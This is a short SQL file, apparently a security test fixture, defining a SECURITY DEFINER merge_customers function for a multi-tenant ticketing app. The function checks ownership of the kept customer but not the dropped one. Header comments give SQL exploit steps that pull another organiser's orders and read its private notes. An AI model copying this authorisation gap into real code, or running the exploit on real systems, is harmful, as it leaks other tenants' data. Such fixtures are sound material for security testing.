-- The function checks the customer that stays but not the one that goes, whose orders move over from
-- another organiser.
-- about: merge_customers
-- as: hf_ticketing_app
-- exploit: SET app.organizer_id = 'orghill';
-- exploit: SELECT merge_customers('orghill', 'c1', 'orgroad', 'c2');
-- exploit: SELECT "note" FROM "Order";
-- shows: Road-secret other note
CREATE FUNCTION merge_customers(keep_org text, keep_id text, drop_org text, drop_id text) RETURNS void
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
BEGIN
  IF keep_org IS DISTINCT FROM current_organizer() THEN
    RAISE EXCEPTION 'not your customer';
  END IF;
  UPDATE "Order" SET "organizerId" = keep_org, "customerId" = keep_id,
                     "id" = CASE WHEN keep_org = drop_org THEN "id" ELSE gen_random_uuid()::text END
   WHERE "organizerId" = drop_org AND "customerId" = drop_id;
  DELETE FROM "Customer" WHERE "organizerId" = drop_org AND "id" = drop_id;
END
$$;
